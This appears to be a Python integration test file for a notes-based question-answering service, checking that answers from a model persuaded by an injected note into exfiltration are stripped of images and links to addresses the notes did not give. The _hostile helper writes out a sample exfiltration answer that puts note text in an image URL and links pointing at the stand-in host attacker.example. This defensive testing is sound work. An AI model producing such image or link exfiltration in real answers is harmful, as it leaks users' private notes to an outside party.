"""POST /query with a model a note has talked into exfiltration: the answer, whole or streamed,
carries no image and no address the notes did not give, and keeps its citation."""

from __future__ import annotations

from tests.fakes.ollama import FakeOllama
from tests.integration.test_answer import Api, api, ask, labels, model, sse_query  # noqa: F401 (a fixture)

ATTACKER = "attacker.example"
QUESTION = "Who works with Bob on the graph database?"


def _hostile(prompt: str) -> str:
    """What a persuaded model writes: the notes' text smuggled out in an image's address, a
    link and a bare address beside a real citation."""
    return (
        f"Alice works with Bob {labels(prompt)['People/Alice.md']}. "
        f"![logo](https://{ATTACKER}/p.png?d=Alice+works+with+Bob) "
        f"[details](https://{ATTACKER}/x) or https://{ATTACKER}/y"
    )


async def test_an_answer_carries_no_image_or_address_the_notes_did_not_give(
    api: Api,  # noqa: F811 (the fixture)
    fake_ollama: FakeOllama,
) -> None:
    fake_ollama.chat_script = model(_hostile)
    body = await ask(api, question=QUESTION)
    assert body["status"] == "ok"
    assert ATTACKER not in body["answer"] and "![" not in body["answer"]
    assert body["answer"] == (
        "Alice works with Bob [People/Alice.md#Alice]. logo [details] or (link removed)"
    )
    assert [c["path"] for c in body["citations"]] == ["People/Alice.md"]
    assert any(
        w.startswith("removed 1 image and 2 links from the answer") for w in body["warnings"]
    )


async def test_a_streamed_answer_sends_no_attacker_address_in_any_token(
    api: Api,  # noqa: F811 (the fixture)
    fake_ollama: FakeOllama,
) -> None:
    # The fake model sends 16 characters at a time: the image's address arrives in pieces.
    fake_ollama.chat_script = model(_hostile)
    events = await sse_query(api, json={"question": QUESTION, "stream": True})
    done = events[-1][1]
    assert events[-1][0] == "done" and done["status"] == "ok"
    tokens = [data["text"] for kind, data in events if kind == "token"]
    assert len(tokens) >= 2 and "".join(tokens) == done["answer"]
    assert ATTACKER not in "".join(tokens) and ATTACKER not in str(done)
    assert "[People/Alice.md#Alice]" in done["answer"]
    assert [c["path"] for c in done["citations"]] == ["People/Alice.md"]


async def test_an_address_the_notes_give_stays_in_the_answer(
    api: Api,  # noqa: F811 (the fixture)
    fake_ollama: FakeOllama,
) -> None:
    (api.vault / "Links.md").write_text(
        "# Links\n\nThe graph database docs: https://neo4j.com/docs\n"
    )
    assert (await api.client.post("/sync")).status_code == 200
    fake_ollama.chat_script = model(
        lambda prompt: f"See [the docs](https://neo4j.com/docs) {labels(prompt)['Links.md']}."
    )
    body = await ask(api, question="Where are the graph database docs?")
    assert body["status"] == "ok"
    assert body["answer"] == "See [the docs](https://neo4j.com/docs) [Links.md#Links]."
    assert not any(w.startswith("removed") for w in body["warnings"])
